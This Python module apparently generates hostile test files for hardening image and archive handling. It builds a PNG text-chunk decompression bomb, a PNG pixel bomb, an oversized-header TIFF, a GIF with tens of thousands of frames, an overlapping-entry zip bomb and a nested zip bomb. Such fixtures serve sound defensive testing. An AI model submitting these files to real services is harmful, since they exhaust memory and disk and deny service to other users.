"""Makers of hostile files: small, quick to make, and each an attack that has worked on somebody."""

from __future__ import annotations

import io
import random
import struct
import zipfile
import zlib
from pathlib import Path

from PIL import Image


def chunk(kind: bytes, data: bytes) -> bytes:
    """One chunk of a PNG."""
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png_with(*chunks: bytes, side: int = 8) -> bytes:
    """A PNG of one grey, with more chunks before its pixels."""
    file = io.BytesIO()
    Image.new("L", (side, side), 99).save(file, "PNG")
    data = file.getvalue()
    place = data.index(b"IDAT") - 4
    return data[:place] + b"".join(chunks) + data[place:]


def png_of_much_text(kind: bytes = b"zTXt", unpacked_bytes: int = 2**31) -> bytes:
    """A PNG whose text chunk unpacks to 2 GiB; made in moments, since deflate's own output compresses again."""
    packer = zlib.compressobj(9)
    piece = bytes(2**24)
    text = b"".join(packer.compress(piece) for _ in range(unpacked_bytes // len(piece))) + packer.flush()
    head = b"Comment\0\0" if kind == b"zTXt" else b"Comment\0\1\0\0\0"
    return png_with(chunk(kind, head + text))


def png_bomb(side: int) -> bytes:
    """A PNG of `side` by `side` black pixels, a thousandth of their size."""
    packer = zlib.compressobj(9)
    rows = b"".join(packer.compress(bytes(side + 1)) for _ in range(side)) + packer.flush()
    header = struct.pack(">IIBBBBB", side, side, 8, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", rows) + chunk(b"IEND", b"")


def tiff_that_promises(width: int, height: int) -> bytes:
    """A TIFF of a few bytes that says it has many pixels, all in one strip."""
    tags = [(256, width), (257, height), (258, 8), (259, 1), (262, 1), (273, 8), (277, 1), (278, height), (279, 64)]
    entries = b"".join(struct.pack("<HHII", tag, 4, 1, value) for tag, value in tags)
    return b"II*\0" + struct.pack("<I", 8) + struct.pack("<H", len(tags)) + entries + bytes(4)


def gif_of_many_frames(frames: int = 50_000, side: int = 8) -> bytes:
    """A GIF whose first frame is followed by thousands."""
    file = io.BytesIO()
    Image.new("P", (side, side), 1).save(file, "GIF")
    data = file.getvalue()
    frame = data[data.index(b"\x2c", 13) : -1]
    return data[:-1] + frame * frames + b";"


def overlapping_zip(path: Path, members: int = 200, unpacked_bytes: int = 2_000_000) -> Path:
    """A zip whose directory names one piece of compressed data many times over.

    Source: D. Fifield, "A better zip bomb", WOOT 2019, section 3 (full overlap).
    """
    kernel = b"\x89PNG\r\n\x1a\n" + random.Random(0).randbytes(1000) + bytes(unpacked_bytes)
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("kernel.png", kernel)
    body = path.read_bytes()
    central, end = body.index(b"PK\1\2"), body.index(b"PK\5\6")
    directory = body[central:end] * members
    finish = bytearray(body[end:])
    struct.pack_into("<HHLL", finish, 8, members % 65_536, members % 65_536, len(directory), central)
    path.write_bytes(body[:central] + directory + bytes(finish))
    return path


def zip_in_zip(levels: int = 5, copies: int = 10) -> bytes:
    """A zip of zips of zips …, the innermost of zeros: 42.zip in small."""
    content = bytes(1_000_000)
    for level in range(levels):
        file = io.BytesIO()
        with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as archive:
            for copy in range(copies):
                archive.writestr(f"{level}-{copy}.zip", content)
        content = file.getvalue()
    return content
